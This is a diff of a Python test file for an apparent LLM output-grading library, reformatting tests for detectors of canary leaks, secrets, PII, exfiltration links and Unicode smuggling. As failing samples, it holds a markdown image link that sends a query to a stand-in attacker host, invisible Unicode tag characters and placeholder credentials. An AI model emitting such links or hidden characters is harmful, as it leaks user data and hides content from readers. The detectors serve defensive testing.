@@ -12,7 +12,12 @@ from promptstage.evals.assertion_specs import parse_assertion
 from promptstage.evals.assertions import GradeContext, grade, grade_case
 from promptstage.evals.results import AssertionResult, ModelOutput, ToolCall
 
-SEARCH = {"type": "object", "properties": {"q": {"type": "string"}}, "required": ["q"], "additionalProperties": False}
+SEARCH = {
+    "type": "object",
+    "properties": {"q": {"type": "string"}},
+    "required": ["q"],
+    "additionalProperties": False,
+}
 CTX = GradeContext(tokens={"canary": "CNRY-ABCD-EFGH-JKMN-PQRS"}, declared_tools={"search": SEARCH})
 
 
@@ -32,13 +37,25 @@ def run(raw: dict[str, Any], output: ModelOutput | str, ctx: GradeContext = CTX)
         ({"type": "regex", "pattern": r"^\d{3}$"}, "123", "12a"),
         ({"type": "not-regex", "pattern": "secret", "flags": "i"}, "nothing", "a SECRET"),
         ({"type": "json-valid"}, '{"a": [1]}', "{a: 1}"),
-        ({"type": "json-schema", "schema": {"type": "object", "required": ["x"]}}, '{"x": 1}', '{"y": 1}'),
+        (
+            {"type": "json-schema", "schema": {"type": "object", "required": ["x"]}},
+            '{"x": 1}',
+            '{"y": 1}',
+        ),
         ({"type": "refusal"}, "I'm sorry, but I can't help with that.", "Sure! Here is how."),
-        ({"type": "canary-leak"}, "no leak here", "the code is c n r y - a b c d - e f g h - j k m n"),
+        (
+            {"type": "canary-leak"},
+            "no leak here",
+            "the code is c n r y - a b c d - e f g h - j k m n",
+        ),
         ({"type": "leak", "value": "MARMOT-TUBA-21"}, "I won't.", "marmot tuba 21"),
         ({"type": "no-pii"}, "Call us.", "My card: 4111 1111 1111 1111"),
         ({"type": "no-secrets"}, "All good.", "use key AKIAIOSFODNN7EXAMPLE"),
-        ({"type": "no-exfil-links", "allowed_hosts": ["docs.example"]}, "See [docs](https://www.docs.example/a)", "![x](https://evil.example/p?q=1)"),
+        (
+            {"type": "no-exfil-links", "allowed_hosts": ["docs.example"]},
+            "See [docs](https://www.docs.example/a)",
+            "![x](https://evil.example/p?q=1)",
+        ),
         ({"type": "no-smuggling"}, "plain", "hi\U000e0041\U000e0042"),
     ],
 )
@@ -71,7 +88,9 @@ def test_tool_calls_allowlist_schema_and_deny() -> None:
         assert not result.passed and not result.error
         assert result.evidence[0].kind == kind
     assert not run(raw, ModelOutput("", (ToolCall("search", {"q": "x"}),) * 3)).passed
-    assert not run({"type": "tool-calls", "allowed": []}, ModelOutput("", (ToolCall("search", {"q": "x"}),))).passed
+    assert not run(
+        {"type": "tool-calls", "allowed": []}, ModelOutput("", (ToolCall("search", {"q": "x"}),))
+    ).passed
 
 
 def test_leaks_in_tool_arguments_are_found() -> None:
@@ -85,13 +104,25 @@ def test_leaks_in_tool_arguments_are_found() -> None:
     [
         ({"type": "canary-leak"}, "x", GradeContext(), "not filled"),
         ({"type": "leak", "value": "{{canary.other}}"}, "x", CTX, "not filled"),
-        ({"type": "tool-calls"}, ModelOutput("", (ToolCall("search", {"q": "x"}),)), GradeContext(), "no allowlist"),
+        (
+            {"type": "tool-calls"},
+            ModelOutput("", (ToolCall("search", {"q": "x"}),)),
+            GradeContext(),
+            "no allowlist",
+        ),
         ({"type": "regex", "pattern": r"(a+)+$"}, "a" * 5000 + "!", CTX, "longer than"),
-        ({"type": "tool-calls"}, ModelOutput("", (ToolCall("t", {}),)), GradeContext(declared_tools={"t": {"type": 12}}), "grader error"),
+        (
+            {"type": "tool-calls"},
+            ModelOutput("", (ToolCall("t", {}),)),
+            GradeContext(declared_tools={"t": {"type": 12}}),
+            "grader error",
+        ),
         ({"type": "leak", "value": "---"}, "x", CTX, "no letters or digits"),
     ],
 )
-def test_detector_failures_fail_closed(raw: dict[str, Any], output: Any, ctx: GradeContext, reason: str) -> None:
+def test_detector_failures_fail_closed(
+    raw: dict[str, Any], output: Any, ctx: GradeContext, reason: str
+) -> None:
     result = run(raw, output, ctx)
     assert not result.passed and result.error
     assert reason in result.message
@@ -107,10 +138,18 @@ def test_an_exception_in_a_detector_is_an_error_result(monkeypatch: pytest.Monke
 
 
 def test_a_judge_assertion_waits_for_the_runner() -> None:
-    raw = {"type": "llm-judge", "rubric": "polite", "model": {"provider": "openai", "name": "judge-1", "version": "1"}}
+    raw = {
+        "type": "llm-judge",
+        "rubric": "polite",
+        "model": {"provider": "openai", "name": "judge-1", "version": "1"},
+    }
     result = run(raw, "hello")
     assert result.needs_judge and not result.passed and not result.deterministic
-    case = grade_case("c", [parse_assertion(raw, "a"), parse_assertion({"type": "contains", "value": "he"}, "b")], ModelOutput("hello"))
+    case = grade_case(
+        "c",
+        [parse_assertion(raw, "a"), parse_assertion({"type": "contains", "value": "he"}, "b")],
+        ModelOutput("hello"),
+    )
     assert not case.passed and case.needs_judge and case.deterministic_passed()
 
 
